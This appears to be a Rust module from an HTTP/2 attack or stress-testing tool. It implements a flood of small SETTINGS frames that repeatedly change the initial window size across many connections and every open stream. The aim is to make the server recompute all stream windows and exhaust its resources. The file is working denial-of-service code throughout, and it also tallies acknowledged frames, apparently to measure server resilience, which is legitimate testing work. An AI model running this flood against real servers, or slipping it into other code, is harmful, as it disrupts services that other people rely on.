//! Clients that change the windows of all their streams again and again, with one small SETTINGS
//! frame each time.

use std::{
    io::Write,
    net::{SocketAddr, TcpStream},
    thread,
    time::{Duration, Instant},
};

use super::{
    attack::CONNECTIONS,
    closed_windows::{open, read},
    watch::Progress,
};
use crate::{
    failure::Failure,
    wire::frames::{
        ACK, Frame, Frames, GOAWAY, INITIAL_WINDOW_SIZE, SETTINGS, WINDOW_UPDATE, write_frame,
        write_settings,
    },
};

/// How many SETTINGS frames are written at once. The client then waits for their acknowledgements.
const AT_ONCE: u32 = 32;

/// How much the connection's window is opened at the beginning, so that it never holds a stream
/// back.
const CONNECTION_WINDOW: u32 = 0x7000_0000;

/// The time between two checks whether the attack is over.
const STEP: Duration = Duration::from_millis(5);

/// How the initial windows change.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(crate) enum Moves {
    /// From one byte to none and back. After the first time no stream can send anything.
    UpAndDown,
    /// By one byte each time, so that every stream may send one byte each time.
    Up,
}

impl Moves {
    /// The initial window of the SETTINGS frame with this number, from 1.
    fn window(self, number: u32) -> u32 {
        match self {
            Self::UpAndDown => number % 2,
            Self::Up => number,
        }
    }
}

/// The totals of all connections.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct WindowChanges {
    /// How many SETTINGS frames the server has acknowledged.
    pub(crate) settings: u64,
    /// How many windows they changed: for each frame, the streams of its connection.
    pub(crate) windows: u64,
    pub(crate) streams: u64,
}

/// Opens as many streams for the path as the server allows on each of [`CONNECTIONS`] connections,
/// and changes their windows for `time`. Holds the streams until [`Progress::is_finished`]. The
/// responses must be so long that every stream always has data.
///
/// # Errors
///
/// Fails when the server does not respond, or closes a connection.
pub(crate) fn move_windows(
    server: SocketAddr,
    path: &str,
    moves: Moves,
    time: Duration,
    progress: &Progress,
) -> Result<WindowChanges, Failure> {
    thread::scope(|scope| {
        let movers: Vec<_> = (0..CONNECTIONS)
            .map(|number| {
                scope.spawn(move || {
                    let mut mover = Mover::open(server, path, number)?;
                    let end = mover.move_for(moves, time);
                    end.map(|()| mover)
                })
            })
            .collect();
        // All threads are joined before the first failure is returned.
        let ends: Vec<_> = movers
            .into_iter()
            .map(|mover| mover.join().unwrap_or_else(|_| Err(Failure::new("a client panicked"))))
            .collect();
        progress.all_sent();
        let movers = ends.into_iter().collect::<Result<Vec<_>, Failure>>()?;
        while !progress.is_finished() {
            thread::sleep(STEP);
        }
        let mut changes = WindowChanges::default();
        for mover in movers {
            changes.settings += u64::from(mover.acknowledged);
            changes.windows += u64::from(mover.acknowledged) * mover.streams;
            changes.streams += mover.streams;
        }
        Ok(changes)
    })
}

/// One connection whose windows move.
struct Mover {
    socket: TcpStream,
    streams: u64,
    frames: Frames,
    acknowledged: u32,
}

impl Mover {
    fn open(server: SocketAddr, path: &str, number: usize) -> Result<Self, Failure> {
        let (mut socket, streams) = open(server, path, number)?;
        let mut wire = Vec::new();
        write_frame(&mut wire, WINDOW_UPDATE, 0, 0, &CONNECTION_WINDOW.to_be_bytes());
        socket.write_all(&wire)?;
        Ok(Self { socket, streams: streams as u64, frames: Frames::default(), acknowledged: 0 })
    }

    fn move_for(&mut self, moves: Moves, time: Duration) -> Result<(), Failure> {
        let begin = Instant::now();
        let mut wire = Vec::new();
        while begin.elapsed() < time {
            wire.clear();
            for number in self.acknowledged + 1..=self.acknowledged + AT_ONCE {
                write_settings(&mut wire, &[(INITIAL_WINDOW_SIZE, moves.window(number))]);
            }
            self.socket.write_all(&wire)?;
            self.wait_for(self.acknowledged + AT_ONCE)?;
        }
        Ok(())
    }

    /// Reads until the server has acknowledged this many SETTINGS frames.
    fn wait_for(&mut self, settings: u32) -> Result<(), Failure> {
        let mut buffer = vec![0; 64 * 1024];
        while self.acknowledged < settings {
            let read = read(&mut self.socket, &mut buffer)?;
            let mut is_refused = read == 0;
            self.frames.feed(&buffer[..read], |frame: Frame<'_>| match frame.kind {
                SETTINGS if frame.flags & ACK != 0 => self.acknowledged += 1,
                GOAWAY => is_refused = true,
                _ => {}
            })?;
            if is_refused {
                let count = self.acknowledged;
                return Err(Failure::new(format!("the server ended it after {count} SETTINGS")));
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn windows_move_by_one_byte() {
        let windows = |moves: Moves| (1..=4).map(|number| moves.window(number)).collect::<Vec<_>>();
        assert_eq!(windows(Moves::UpAndDown), [1, 0, 1, 0]);
        assert_eq!(windows(Moves::Up), [1, 2, 3, 4]);
    }
}
